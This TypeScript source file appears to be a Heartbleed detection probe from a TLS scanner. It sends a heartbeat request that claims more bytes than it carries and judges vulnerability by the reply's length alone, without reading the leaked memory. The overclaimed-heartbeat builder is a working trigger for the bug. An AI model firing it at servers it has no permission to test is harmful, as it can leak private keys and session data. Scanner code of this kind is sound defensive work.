import { Writer } from '../wire/bytes';
import { extensionType } from '../wire/extensions';
import { handshakeType } from '../wire/handshakeMessages';
import { contentType, encodeRecord } from '../wire/records';
import { versionCode } from '../wire/versions';
import { describeAnswers, readAnswers } from './answers';
import { openClear, patienceMs, termsFor, type ClearHandshake } from './clearHandshake';
import { notVulnerable, unknown, vulnerable } from './outcome';
import type { Outcome, Probe } from './types';
import { because } from './words';

/**
 * Sent, and claimed to be sent: a faulty server adds the difference from its memory, which is not kept.
 * The answer is longer than 4 KiB because OpenSSL holds shorter ones back while a handshake lasts.
 */
const payloadBytes = 4400;
const claimedBytes = payloadBytes + 16;

/**
 * Heartbleed (CVE-2014-0160): a heartbeat request (RFC 6520) that claims 16 bytes more than it has, and
 * a right one after it. A sound server drops the first, and answers at most the second; a faulty one
 * answers with as much as was claimed. Only lengths are looked at.
 */
export const heartbleed: Probe = async (dialer, { protocols, features }) => {
  if (features?.heartbeat.value === 'no') return notVulnerable('The server takes no heartbeats.');
  const terms = termsFor(protocols);
  if (!('version' in terms)) {
    return terms.surelyNone
      ? notVulnerable(`${terms.why} The faulty OpenSSL does not go without the older ones.`)
      : unknown(terms.why);
  }
  const peerMaySend = { type: extensionType.heartbeat, data: Buffer.from([1]) };
  const opened = await openClear(dialer, terms, { extensions: [peerMaySend] });
  if (opened.kind === 'failed') return unknown(opened.why);

  const { connection, flight } = opened;
  // SSLv3 has no extensions in the answer, but the faulty OpenSSL takes heartbeats in it too.
  const { version, extensions } = flight.hello;
  if (version !== 'SSLv3' && !extensions.has(extensionType.heartbeat)) {
    connection.close();
    return notVulnerable('The server takes no heartbeats.');
  }
  const code = versionCode[version];
  connection.write(encodeRecord(contentType.heartbeat, code, overclaimedHeartbeat()));
  connection.write(encodeRecord(contentType.heartbeat, code, soundHeartbeat()));
  const outcome = await judgeBeat(opened);
  connection.close();
  return outcome;
};

async function judgeBeat({ connection, flight, elapsedMs }: ClearHandshake): Promise<Outcome> {
  const beats = await readAnswers(connection, patienceMs(elapsedMs));
  const beat = beats.find((one) => one.kind === 'record' && one.type === contentType.heartbeat);
  if (beat?.kind === 'record') {
    return beat.length >= 3 + claimedBytes
      ? vulnerable(
          `A heartbeat with ${payloadBytes} bytes that claimed ${claimedBytes} was answered with that many: the last ones come from the server's memory.`,
        )
      : notVulnerable(
          'A heartbeat that claims more than it has is dropped; a right one is answered.',
        );
  }
  // Servers may drop every heartbeat while a handshake lasts. One that still listens refuses nonsense.
  const outOfPlace = Buffer.from([handshakeType.serverHelloDone, 0, 0, 0]);
  const code = versionCode[flight.hello.version];
  connection.write(encodeRecord(contentType.handshake, code, outOfPlace));
  const answers = [...beats, ...(await readAnswers(connection, patienceMs(elapsedMs)))];
  return answers.some(({ kind }) => kind === 'alert' || kind === 'closed')
    ? notVulnerable('A heartbeat that claims more than it has is not answered.')
    : unknown(
        `The answer to a faulty heartbeat tells nothing${because(describeAnswers(answers))}.`,
      );
}

/** A HeartbeatRequest whose length field claims more than comes, and that has no padding. */
export function overclaimedHeartbeat(): Buffer {
  return new Writer().u8(1).u16(claimedBytes).bytes(Buffer.alloc(payloadBytes, 0x2e)).build();
}

/** As RFC 6520 section 4 has it: with 16 bytes of padding, and shorter than the faulty one's answer. */
function soundHeartbeat(): Buffer {
  const payload = Buffer.alloc(payloadBytes - 100, 0x2e);
  return new Writer().u8(1).vector16(payload).bytes(Buffer.alloc(16)).build();
}
